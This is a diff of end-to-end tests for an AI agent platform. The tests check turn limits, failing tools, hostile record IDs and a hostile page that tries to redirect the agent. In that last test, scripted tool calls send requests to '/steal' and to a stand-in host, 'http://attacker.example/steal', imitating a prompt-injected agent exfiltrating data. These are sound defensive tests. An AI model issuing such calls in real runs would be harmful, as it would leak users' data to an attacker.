@@ -14,7 +14,7 @@ import httpx
 import pytest
 
 from tests.support.api import provision_tenant, signed_in
-from tests.support.network import Answer, ChatTurn, LoopbackServer, chat_route, grant_loopback
+from tests.support.network import Answer, ChatToolCall, ChatTurn, LoopbackServer, chat_route, grant_loopback
 from tests.support.processes import System
 
 pytestmark = pytest.mark.e2e
@@ -25,9 +25,8 @@ HOSTILE = (
 )
 
 
-def _call(call_id: str, name: str, arguments: dict | str) -> dict:
-    text = arguments if isinstance(arguments, str) else json.dumps(arguments)
-    return {"id": call_id, "type": "function", "function": {"name": name, "arguments": text}}
+def _call(call_id: str, name: str, arguments: dict | str) -> ChatToolCall:
+    return ChatToolCall(call_id, name, arguments if isinstance(arguments, str) else json.dumps(arguments))
 
 
 @pytest.fixture(scope="module")
@@ -95,8 +94,8 @@ def run_agent(api: httpx.Client, server: LoopbackServer, model: Callable[[dict],
         time.sleep(0.1)
     run["agent"] = next(n for n in run["nodes"] if n["node_id"] == "agent")
     run["requests"] = requests
-    events = api.get(f"/api/v1/runs/{run_id}/events").json()
-    run["events"] = events["items"] if isinstance(events, dict) else events
+    exported = api.get(f"/api/v1/runs/{run_id}/export")
+    run["events"] = [json.loads(line) for line in exported.text.splitlines() if line]
     return run
 
 
@@ -116,7 +115,7 @@ def test_a_failing_tool_is_told_to_the_model_which_finishes(world):
 
     def model(asked: dict) -> ChatTurn:
         if not tool_results(asked):
-            return ChatTurn(None, tool_calls=[_call("c1", "lookup", {"url": f"{server.url}/broken"})])
+            return ChatTurn(tool_calls=(_call("c1", "lookup", {"url": f"{server.url}/broken"}),))
         return ChatTurn("the lookup service is down")
 
     run = run_agent(api, server, model, task="Look it up", tools=[lookup])
@@ -135,7 +134,7 @@ def test_a_runaway_model_is_stopped_at_its_turn_limit(world):
 
     def model(asked: dict) -> ChatTurn:
         n = len(tool_results(asked))
-        return ChatTurn(None, tool_calls=[_call(f"c{n}", "find_records", {"pipeline": "deals"})])
+        return ChatTurn(tool_calls=(_call(f"c{n}", "find_records", {"pipeline": "deals"}),))
 
     run = run_agent(api, server, model, task="Never stop", tools=[records], max_turns=3)
 
@@ -156,11 +155,10 @@ def test_an_unknown_tool_bad_arguments_and_hostile_records_reach_nothing(world):
     def model(asked: dict) -> ChatTurn:
         results = tool_results(asked)
         if not results:
-            return ChatTurn(None, tool_calls=[_call("f", "find_records", {"pipeline": "deals"})])
+            return ChatTurn(tool_calls=(_call("f", "find_records", {"pipeline": "deals"}),))
         if len(results) == 1:
             return ChatTurn(
-                None,
-                tool_calls=[
+                tool_calls=(
                     _call("a", "delete_record", {"pipeline": "deals", "record_id": hostile}),
                     _call(
                         "b", "update_record", {"pipeline": "payroll", "record_id": hostile, "data": {"x": 1}}
@@ -169,7 +167,7 @@ def test_an_unknown_tool_bad_arguments_and_hostile_records_reach_nothing(world):
                         "c", "update_record", {"pipeline": "deals", "record_id": foreign, "data": {"x": 1}}
                     ),
                     _call("d", "update_record", "{not json"),
-                ],
+                ),
             )
         return ChatTurn("done")
 
@@ -204,17 +202,16 @@ def test_a_hostile_page_cannot_send_the_agent_elsewhere(world):
     def model(asked: dict) -> ChatTurn:
         results = tool_results(asked)
         if not results:
-            return ChatTurn(None, tool_calls=[_call("p", "read_page", {"url": f"{server.url}/page"})])
+            return ChatTurn(tool_calls=(_call("p", "read_page", {"url": f"{server.url}/page"}),))
         if len(results) == 1:
             return ChatTurn(
-                None,
-                tool_calls=[
+                tool_calls=(
                     _call("s", "read_page", {"url": f"{server.url}/steal"}),
                     _call("t", "read_page", {"url": "http://attacker.example/steal"}),
                     _call(
                         "u", "read_page", {"url": f"{server.url}/page", "method": "POST", "body": {"x": 1}}
                     ),
-                ],
+                ),
             )
         return ChatTurn("read it")
 
